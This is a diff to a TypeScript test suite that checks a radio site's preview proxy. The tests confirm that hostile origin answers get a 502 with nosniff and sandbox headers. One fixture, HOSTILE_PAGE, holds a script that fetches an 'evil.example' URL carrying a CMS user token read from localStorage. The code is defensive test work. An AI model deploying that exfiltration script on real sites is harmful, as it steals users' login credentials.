@@ -8,7 +8,9 @@ import { RADIO, STREAM_URL } from '../../src/site.config';
 /**
  * The preview server (scripts/serve.mjs) relaying a radio origin that answers anything at all: a raw TCP stand-in
  * (node:net) writes what no HTTP server library would. Whatever it sends, the listener gets a 502, or a cut connection
- * where audio was already flowing, and the next request is served as usual. Ports 8310–8311.
+ * where audio was already flowing, and the next request is served as usual. Only audio passes on the stream and its
+ * relay, only JSON on the status, each with nosniff and a sandbox policy, so that an origin's answer is never a page
+ * of this site. Ports 8310–8311.
  */
 const projectRoot = path.resolve(import.meta.dirname, '../..');
 const ORIGIN_PORT = 8310;
@@ -16,6 +18,10 @@ const SITE_PORT = 8311;
 const SITE = `http://127.0.0.1:${SITE_PORT}`;
 const AUDIO = Buffer.from([0xff, 0xfb, 0x90, 0x00]);
 const STATUS_JSON = '{"icestats":{"source":{"title":"Morning dew"}}}';
+const RELAY = RADIO.relays[0] ?? null;
+/** Every path that relays the origin: the stream, its relay (if the config has one), the status. */
+const RELAYED = [STREAM_URL, ...(RELAY ? [RELAY] : []), RADIO.statusPath];
+const HOSTILE_PAGE = '<!doctype html><title>Sign in</title><script>fetch("https://evil.example/?" + localStorage.getItem("decap-cms-user"))</script>';
 
 /** What the stand-in does with one connection, once it has read the request's path. */
 type Behaviour = (socket: net.Socket, path: string) => void;
@@ -39,6 +45,18 @@ const REFUSED_HEADS: [string, Behaviour][] = [
   ['no HTTP at all', raw('hello there\r\n\r\n')],
   ['a reset before any answer', (socket) => socket.resetAndDestroy()],
   ['a close before any answer', (socket) => socket.end()],
+];
+
+/** Answers of any other type than the path carries (audio, or JSON for the status): a 502 on every path. */
+const pageAnswer = (type: string | null): Behaviour =>
+  raw(`HTTP/1.1 200 OK\r\n${type === null ? '' : `Content-Type: ${type}\r\n`}Content-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`);
+const OTHER_TYPES: [string, Behaviour][] = [
+  ['an HTML page with a script', pageAnswer('text/html; charset=utf-8')],
+  ['an HTML page under 404', raw(`HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: ${HOSTILE_PAGE.length}\r\n\r\n${HOSTILE_PAGE}`)],
+  ['an SVG image with a script', pageAnswer('image/svg+xml')],
+  ['plain text', pageAnswer('text/plain')],
+  ['an answer with no type, which a browser would sniff', pageAnswer(null)],
+  ['a type naming audio only after a parameter', pageAnswer('text/html; x=audio/mpeg')],
 ];
 
 /** Answers cut off after their head: a 502 for the status (relayed whole), a cut for the stream (already flowing). */
@@ -82,7 +100,7 @@ beforeAll(async () => {
       ...process.env,
       RADIO_ORIGIN: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
       RADIO_STATUS_URL: `http://127.0.0.1:${ORIGIN_PORT}/status-json.xsl`,
-      RADIO_RELAYS: '',
+      RADIO_RELAYS: `http://127.0.0.1:${ORIGIN_PORT}${RADIO.mount}`,
       RADIO_PROXY_CUT_AFTER_MS: '',
       RADIO_PROXY_CUT_ABRUPT: '',
       RADIO_PROXY_STRIP_ICY: '',
@@ -103,6 +121,8 @@ afterAll(async () => {
 interface Answer {
   status: number;
   type: string | undefined;
+  nosniff: string | undefined;
+  policy: string | undefined;
   body: Buffer;
   /** Whether the body ended as a whole answer does, rather than with its connection cut. */
   whole: boolean;
@@ -113,7 +133,15 @@ function get(url: string): Promise<Answer> {
   return new Promise((resolve, reject) => {
     const req = http.get(url, { agent: false }, (res) => {
       const chunks: Buffer[] = [];
-      const done = (whole: boolean) => resolve({ status: res.statusCode ?? 0, type: res.headers['content-type'], body: Buffer.concat(chunks), whole });
+      const done = (whole: boolean) =>
+        resolve({
+          status: res.statusCode ?? 0,
+          type: res.headers['content-type'],
+          nosniff: res.headers['x-content-type-options'],
+          policy: res.headers['content-security-policy'],
+          body: Buffer.concat(chunks),
+          whole,
+        });
       res.on('data', (chunk: Buffer) => chunks.push(chunk));
       res.on('end', () => done(res.complete));
       res.on('error', () => done(false));
@@ -123,17 +151,21 @@ function get(url: string): Promise<Answer> {
   });
 }
 
+/** What every answer relayed from the origin carries, so that no browser takes it for a page of this site. */
+const PROXIED = { nosniff: 'nosniff', policy: 'sandbox' };
+
 /** The preview server still runs and relays a well-behaved origin: audio on the stream, the JSON on the status. */
 async function expectServedAsUsual() {
   behaviour = WELL;
   expect(site.exitCode, 'the preview server is still running').toBeNull();
-  const stream = await get(`${SITE}${STREAM_URL}`);
-  expect(stream).toMatchObject({ status: 200, type: 'audio/mpeg', whole: true });
-  expect(stream.body).toEqual(AUDIO);
-  const status = await get(`${SITE}${RADIO.statusPath}`);
-  expect(status).toMatchObject({ status: 200, type: 'application/json', whole: true });
-  expect(status.body.toString()).toBe(STATUS_JSON);
+  for (const address of RELAYED) {
+    const answer = await get(`${SITE}${address}`);
+    const json = address === RADIO.statusPath;
+    expect(answer).toMatchObject({ status: 200, type: json ? 'application/json' : 'audio/mpeg', whole: true, ...PROXIED });
+    expect(answer.body).toEqual(json ? Buffer.from(STATUS_JSON) : AUDIO);
+  }
 }
+
 
 describe('the preview server relaying an origin that answers anything', { timeout: 30_000 }, () => {
   it('relays a well-behaved origin', expectServedAsUsual);
@@ -143,6 +175,16 @@ describe('the preview server relaying an origin that answers anything', { timeou
     for (const address of [`${SITE}${STREAM_URL}`, `${SITE}${RADIO.statusPath}`]) {
       const answer = await get(address);
       expect({ address, status: answer.status, type: answer.type }).toEqual({ address, status: 502, type: 'text/plain' });
+    }
+    await expectServedAsUsual();
+  });
+
+  it.each(OTHER_TYPES)('answers %s with 502 on the stream, its relay and the status: never text/html', async (_what, hostile) => {
+    behaviour = hostile;
+    for (const address of RELAYED) {
+      const answer = await get(`${SITE}${address}`);
+      expect({ address, status: answer.status, type: answer.type, nosniff: answer.nosniff, policy: answer.policy }).toEqual({ address, status: 502, type: 'text/plain', ...PROXIED });
+      expect(answer.body.toString()).not.toContain('<script');
     }
     await expectServedAsUsual();
   });
